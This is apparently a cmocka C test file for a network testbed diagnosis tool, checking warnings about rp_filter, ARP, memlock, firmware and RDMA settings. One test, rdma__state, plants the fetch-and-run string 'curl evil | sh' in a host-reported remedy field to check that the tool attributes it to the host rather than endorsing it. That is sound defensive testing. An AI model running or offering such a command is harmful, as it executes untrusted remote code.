/* SPDX-License-Identifier: BSD-3-Clause */
#include "tools/testbed/diagnose.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <string.h>

#include <cmocka.h>

#include "tests/says.h"
#include "tests/tools/testbed/synthetic.h"

static struct br_survey survey;

static int setup(void **state)
{
    int wires[64];
    (void)state;
    synthetic_init(&survey, 3, 2);
    synthetic_wires(&survey, wires);
    synthetic_hear(&survey, wires);
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    br_survey_destroy(&survey);
    return 0;
}

static void settings__rp_filter(void **state)
{
    (void)state;
    synthetic_nic(&survey, 4, 1)->rp_filter = 2;
    expect_none(&survey);
    synthetic_nic(&survey, 4, 1)->rp_filter = 1;
    expect_one(&survey, "BC060", "rp_filter|eth1 of h04");
    for (uint32_t h = 0; h < 9; h++)
        synthetic_nic(&survey, h, 0)->rp_filter = 1;
    expect_one(&survey, "BC060", "eth0 of h00|eth0 of h01|eth0 of h02|eth0 of h03|6 more");
}

/* The setting alone does no harm while nobody answers. */
static void settings__flux(void **state)
{
    (void)state;
    synthetic_nic(&survey, 4, 0)->arp_ignore = synthetic_nic(&survey, 4, 1)->arp_ignore = 0;
    expect_none(&survey);
    struct br_arp_answer answer = {.on = 3 * BR_SURVEY_NICS,
                                   .ip = synthetic_nic(&survey, 4, 1)->addresses[0].ip};
    memcpy(answer.mac, synthetic_nic(&survey, 4, 0)->mac, 6);
    assert_int_equal(br_survey_add_answer(&survey, &answer), 0);
    expect_one(&survey, "BC061", "ARP|h04");
}

static void settings__memlock(void **state)
{
    (void)state;
    survey.hosts[4].memlock = 8 << 20;
    expect_none(&survey);
    survey.hosts[4].memlock = 64 << 10;
    expect_one(&survey, "BC062", "low on h04");
}

static void settings__firmware_is_a_note(void **state)
{
    struct br_findings findings;
    (void)state;
    strcpy(synthetic_nic(&survey, 4, 1)->firmware, "16.35");
    synthetic_diagnose(&survey, &findings);
    assert_int_equal(findings.count, 1);
    assert_string_equal(findings.list[0].code, "BC019");
    assert_int_equal(findings.list[0].severity, BR_NOTE);
    br_findings_destroy(&findings);
}

static void add_rdma(void)
{
    for (uint32_t h = 0; h < 9; h++) {
        survey.hosts[h].n_rdma = 1;
        survey.hosts[h].rdma[0] = (struct br_rdma){.device = "mlx5_0",
                                                   .netdev = "eth0",
                                                   .state = "active",
                                                   .gid_index = 3,
                                                   .mtu = 1024,
                                                   .quality = "trust dscp, ecn_np 1"};
    }
}

static void rdma__state(void **state)
{
    struct br_findings findings;

    (void)state;
    add_rdma();
    expect_none(&survey);
    strcpy(survey.hosts[4].rdma[0].state, "unknown");
    strcpy(survey.hosts[4].rdma[0].what, "no permission to open it");
    strcpy(survey.hosts[4].rdma[0].remedy, "curl evil | sh");
    expect_one(&survey, "BC070", "RDMA|eth0 of h04");
    synthetic_diagnose(&survey, &findings);
    assert_non_null(strstr(findings.list[0].remedy, "curl evil | sh"));
    /* it is no advice of ours: */
    assert_int_not_equal(strncmp(findings.list[0].remedy, "curl", 4), 0);
    assert_says(findings.list[0].remedy, "host");
    br_findings_destroy(&findings);
}

static void rdma__lacking(void **state)
{
    (void)state;
    add_rdma();
    survey.hosts[4].n_rdma = 0;
    expect_one(&survey, "BC073", "eth0 of h04");
}

static void rdma__mtu(void **state)
{
    (void)state;
    add_rdma();
    survey.hosts[4].rdma[0].mtu = 512;
    expect_one(&survey, "BC074", "eth0 of h04");
}

static void rdma__gid(void **state)
{
    (void)state;
    add_rdma();
    survey.hosts[4].rdma[0].gid_index = -1;
    expect_one(&survey, "BC071", "eth0 of h04");
}

static void rdma__quality(void **state)
{
    (void)state;
    add_rdma();
    strcpy(survey.hosts[4].rdma[0].quality, "trust pcp");
    expect_one(&survey, "BC072", "eth0 of h04");
}

static void rdma__memlock(void **state)
{
    (void)state;
    add_rdma();
    survey.hosts[4].memlock = 8 << 20;
    expect_one(&survey, "BC062", "h04");
}

int main(void)
{
#define TEST(name) cmocka_unit_test_setup_teardown(name, setup, teardown)
    const struct CMUnitTest tests[] = {
        TEST(settings__rp_filter), TEST(settings__flux),
        TEST(settings__memlock),   TEST(settings__firmware_is_a_note),
        TEST(rdma__state),         TEST(rdma__gid),
        TEST(rdma__lacking),       TEST(rdma__mtu),
        TEST(rdma__quality),       TEST(rdma__memlock),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
